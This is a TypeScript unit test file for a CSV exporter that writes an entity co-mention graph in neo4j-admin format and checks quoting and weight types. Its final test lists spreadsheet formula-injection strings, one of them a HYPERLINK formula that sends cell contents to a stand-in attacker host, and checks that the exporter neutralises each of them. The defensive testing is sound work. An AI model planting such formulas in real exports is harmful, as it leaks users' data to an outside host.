import { UndirectedGraph } from 'graphology';
import { describe, expect, it } from 'vitest';
import type { EdgeAttributes, GraphAttributes, NodeAttributes } from '../types.js';
import { safeCell, writeCsv } from './csv.js';

function sample(): UndirectedGraph<NodeAttributes, EdgeAttributes, GraphAttributes> {
  const graph = new UndirectedGraph<NodeAttributes, EdgeAttributes, GraphAttributes>();
  graph.addNode('person:lavrov', {
    label: 'Sergey "Q" Lavrov, jr\\\nline 🎉',
    type: 'person',
    aliases: ['Lavrov', 'S. Lavrov'],
    mentions: 3,
    docs: ['d1', 'd2'],
    evidence: [],
    kbId: 'Q1',
  });
  graph.addNode('treaty:npt', { label: 'NPT', type: 'treaty', aliases: [], mentions: 1, docs: ['d1'], evidence: [], wikidata: 'Q2' });
  graph.addEdge('person:lavrov', 'treaty:npt', { weight: 2, docs: ['d1'], evidence: [] });
  return graph;
}

describe('#writeCsv', () => {
  it('writes neo4j-admin node headers and Entity;Type labels', () => {
    const { nodes } = writeCsv(sample());
    const lines = nodes.split('\n');
    expect(lines[0]).toBe('id:ID,label,type,:LABEL,mentions:int,docs:int,aliases:string[],kbId,wikidata');
    expect(nodes).toContain('treaty:npt,NPT,treaty,Entity;Treaty,1,1,,,Q2\n');
  });

  it('quotes per RFC 4180: doubled quotes, commas and newlines inside quotes', () => {
    const { nodes } = writeCsv(sample());
    expect(nodes).toContain('person:lavrov,"Sergey ""Q"" Lavrov, jr\\\nline 🎉",person,Entity;Person,3,2,Lavrov;S. Lavrov,Q1,\n');
  });

  it('writes relationships as CO_MENTIONED with integer weights', () => {
    const { edges } = writeCsv(sample());
    expect(edges).toBe(':START_ID,:END_ID,:TYPE,weight:int,docs:int\nperson:lavrov,treaty:npt,CO_MENTIONED,2,1\n');
  });

  it('declares weight:float when a weight is not an integer', () => {
    const graph = sample();
    graph.setEdgeAttribute('person:lavrov', 'treaty:npt', 'weight', 0.5);
    expect(writeCsv(graph).edges.split('\n')[0]).toBe(':START_ID,:END_ID,:TYPE,weight:float,docs:int');
  });

  it('writes headers only for an empty graph', () => {
    const { nodes, edges } = writeCsv(new UndirectedGraph<NodeAttributes, EdgeAttributes, GraphAttributes>());
    expect(nodes.trim().split('\n')).toHaveLength(1);
    expect(edges.trim().split('\n')).toHaveLength(1);
  });

  it('prefixes cells a spreadsheet would run as formulas with a quote (OWASP), in ids, labels and aliases alike', () => {
    const graph = new UndirectedGraph<NodeAttributes, EdgeAttributes, GraphAttributes>();
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1)', '\tTab', '\rCR'];
    hostile.forEach((label, i) => graph.addNode(i === 0 ? '=key' : `person:p${i}`, { label, type: 'person', aliases: [label], mentions: 1, docs: [], evidence: [] }));
    graph.addEdge('=key', 'person:p1', { weight: 1, docs: [], evidence: [] });
    const { nodes, edges } = writeCsv(graph);
    // Each hostile value appears only behind its quote, as a bare or an RFC 4180 quoted field.
    const field = (v: string) => [`,${v},`, `,"${v.replace(/"/g, '""')}",`];
    for (const label of hostile) {
      expect(field(`'${label}`).some((f) => nodes.includes(f))).toBe(true);
      expect(field(label).some((f) => nodes.includes(f))).toBe(false);
    }
    expect(nodes).toContain("\n'=key,");
    // The edge names its node by the same, prefixed, id.
    expect(edges.split('\n')[1]).toBe("'=key,person:p1,CO_MENTIONED,1,0");
    // Ordinary labels, and numbers (negative or not), are left alone.
    expect(safeCell('Sergey Lavrov')).toBe('Sergey Lavrov');
    expect(safeCell('a=b')).toBe('a=b');
  });
});
